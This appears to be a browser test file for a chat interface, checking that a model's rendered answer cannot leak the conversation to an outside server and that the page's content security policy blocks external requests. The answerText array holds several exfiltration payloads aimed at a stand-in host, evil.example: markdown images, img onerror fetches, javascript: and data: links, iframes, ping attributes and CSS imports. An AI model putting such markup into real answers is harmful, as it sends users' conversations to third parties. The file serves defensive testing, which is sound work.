/** Abuse case 18: an answer that leaks the conversation through an image or a link. */
import { describe, expect, it } from 'vitest'
import { setUpBrowser } from './browser-fixture.ts'
import { answers, askAndClaim, eventually } from './chat.ts'

const fixture = setUpBrowser()

const secretWords = 'conversation-as-a-secret'
const answerText = [
  `![a](https://evil.example/pixel?q=${secretWords})`,
  `<img src="https://evil.example/tag?q=${secretWords}" onerror="fetch('https://evil.example/js?q=${secretWords}')">`,
  `[click](javascript:fetch('https://evil.example/link?q=${secretWords}'))`,
  `[data](data:text/html,<script>location='https://evil.example/?q=${secretWords}'</script>)`,
  `![b](//evil.example/relative?q=${secretWords})`,
  `<iframe src="https://evil.example/frame?q=${secretWords}"></iframe><link rel="stylesheet" href="https://evil.example/css">`,
  `<svg><image href="https://evil.example/svg?q=${secretWords}"/></svg><video poster="https://evil.example/poster"></video>`,
  `<a href="https://evil.example/ping" ping="https://evil.example/ping?q=${secretWords}">ping</a>`,
  `<style>@import url(https://evil.example/style?q=${secretWords})</style><form action="https://evil.example/form"><button>go</button></form>`,
  '[plain link](https://example.org/page)',
  'The end.',
].join('\n\n')

describe('An answer', () => {
  it('18. fetches, runs and sends nothing when it is shown', async () => {
    const { page } = await fixture.visitor()
    const externalRequests: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(fixture.url)) externalRequests.push(request.url())
    })
    const answer = await askAndClaim(fixture.model, page, 'show me', 'show me')
    answer.write(answerText)
    answer.finish()
    await page.getByText('The end.').waitFor()
    await page.waitForTimeout(500)
    expect(externalRequests).toEqual([])
    const text = answers(page).last()
    expect(
      await text.locator('img, image, iframe, script, style, link, video, audio, object, embed, form, button[type=submit]').count(),
    ).toBe(0)
    const links = await text.locator('a').evaluateAll((all) =>
      all.map((link) => ({
        href: link.getAttribute('href') ?? '',
        rel: link.getAttribute('rel') ?? '',
        ping: link.hasAttribute('ping'),
      })),
    )
    expect(links.length).toBeGreaterThan(0)
    for (const { href, rel, ping } of links) {
      expect(href === '' || /^(https?:)?\/\//.test(href), href).toBe(true)
      expect([ping, rel.includes('noreferrer') || href === '']).toEqual([false, true])
    }
  })

  it('18. can reach only the page’s own server, by its content security policy', async () => {
    const { page } = await fixture.visitor()
    const policy = (await (await fetch(fixture.url)).headers.get('content-security-policy')) ?? ''
    expect(policy).toContain("default-src 'none'")
    expect(policy).toMatch(/connect-src 'self'(;|$)/)
    expect(policy).toMatch(/img-src 'self' data:(;|$)/)
    const blocked = await page.evaluate(async () => {
      const directives: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.push(effectiveDirective))
      const image = new Image()
      image.src = 'https://evil.example/pixel'
      document.body.append(image)
      await fetch('https://evil.example/').catch(() => {})
      await new Promise((resolve) => setTimeout(resolve, 300))
      return directives
    })
    await eventually(() => expect(blocked.sort()).toEqual(['connect-src', 'img-src']))
  })
})
